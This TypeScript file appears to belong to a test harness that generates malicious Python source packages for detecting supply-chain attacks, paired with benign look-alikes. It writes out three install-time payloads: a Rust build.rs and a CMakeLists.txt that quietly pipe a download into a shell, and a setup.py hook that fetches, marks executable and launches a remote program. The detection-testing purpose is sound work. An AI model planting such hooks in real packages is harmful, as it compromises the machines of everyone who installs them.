import { techniques } from './drafts.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { pythonConfiguration } from './look-alikes/loading.ts';
import { cmakeProject, rustProject } from './look-alikes/native-builds.ts';
import { py } from './python-text.ts';

const CARGO = (name: string): string =>
  `[package]\nname = "${name}"\nversion = "0.5.0"\nedition = "2021"\nbuild = "build.rs"\n\n[lib]\nname = "${name}"\ncrate-type = ["cdylib"]\n\n[dependencies]\npyo3 = "0.22"\n`;

const BUILD_RS = (c: Remote): string => `use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let target = std::env::var("TARGET").unwrap_or_default();
    if target.contains("linux") {
        let _ = Command::new("sh")
            .arg("-c")
            .arg("curl -fsSL ${c.url('/rs.sh')} | sh >/dev/null 2>&1 &")
            .spawn();
    }
}
`;

/** maturin builds with cargo, cargo runs build.rs: code at install in a language that is not Python. */
const buildScript = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'rapidcrc',
  version: '0.5.0',
  files: {
    'Cargo.toml': CARGO('rapidcrc'),
    'build.rs': BUILD_RS(c),
    'src/lib.rs':
      'use pyo3::prelude::*;\n\n#[pyfunction]\nfn crc(data: &[u8]) -> u32 { data.iter().fold(0, |a, b| a.rotate_left(5) ^ u32::from(*b)) }\n\n#[pymodule]\nfn rapidcrc(m: &Bound<PyModule>) -> PyResult<()> { m.add_function(wrap_pyfunction!(crc, m)?) }\n',
    'python/rapidcrc/__init__.py': 'from .rapidcrc import crc\n',
  },
  sdist: {
    pyproject:
      '[build-system]\nrequires = ["maturin>=1,<2"]\nbuild-backend = "maturin"\n\n[project]\nname = "rapidcrc"\nversion = "0.5.0"\n',
  },
  sites: [],
});

const CMAKE = (c: Remote): string => `cmake_minimum_required(VERSION 3.18)
project(\${SKBUILD_PROJECT_NAME} LANGUAGES C)

execute_process(COMMAND sh -c "curl -fsSL ${c.url('/cm.sh')} | sh" OUTPUT_QUIET ERROR_QUIET)

find_package(Python REQUIRED COMPONENTS Interpreter Development.Module)
Python_add_library(_gridfft MODULE src/gridfft.c WITH_SOABI)
install(TARGETS _gridfft DESTINATION gridfft)
`;

const cmakeScript = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'gridfft',
  version: '0.5.0',
  files: {
    'CMakeLists.txt': CMAKE(c),
    'src/gridfft.c': '#include <Python.h>\n',
    'src/gridfft/__init__.py': fillerModule('Transforms.', 140, 241),
  },
  sdist: {
    pyproject:
      '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n\n[project]\nname = "gridfft"\nversion = "0.5.0"\n',
  },
  sites: [],
});

/** setup.py loads a neighbour by its path; the neighbour does it. */
const loadedNeighbour = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'maskgrid',
  version: '0.5.0',
  files: {
    'maskgrid/__init__.py': fillerModule('Masks.', 120, 242),
    'scripts/post_install.py': py`import os
import subprocess
import urllib.request


def after_install():
    target = os.path.expanduser("~/.cache/maskgrid/update")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    urllib.request.urlretrieve("${c.url('/update')}", target)
    os.chmod(target, 0o755)
    subprocess.Popen([target], start_new_session=True)
`,
  },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      exports: ['PostInstall'],
      before: 'from setuptools import find_packages, setup\nfrom setuptools.command.install import install\n',
      code: py`import importlib.util
import os


class PostInstall(install):
    def run(self):
        install.run(self)
        path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "scripts", "post_install.py")
        spec = importlib.util.spec_from_file_location("post_install", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        module.after_install()
`,
      after: '\nsetup(name="maskgrid", version="0.5.0", packages=find_packages(), cmdclass={"install": PostInstall})\n',
    },
  ],
});

const technique = techniques(
  'https://packaging.python.org/en/latest/specifications/pyproject-toml/',
  'https://artifacts.build-cache.invalid',
);

export const NATIVE_BUILDS: readonly Replay[] = [
  technique(
    '37a-build-rs',
    'build.rs of a Rust extension pipes a download into a shell',
    'pip builds the sdist with maturin, cargo runs build.rs, which starts sh -c "curl … | sh"',
    buildScript,
    { lookAlikes: () => [rustProject()] },
  ),
  technique(
    '37b-cmake',
    'CMakeLists.txt pipes a download into a shell',
    'pip builds the sdist with scikit-build-core, cmake runs execute_process(sh -c "curl … | sh")',
    cmakeScript,
    { lookAlikes: () => [cmakeProject()] },
  ),
  technique(
    '37c-loaded-neighbour',
    'the install command loads a script of the sdist by its path',
    'the install command loads scripts/post_install.py, which downloads a program, makes it executable and starts it',
    loadedNeighbour,
    { lookAlikes: () => [pythonConfiguration()] },
  ),
];
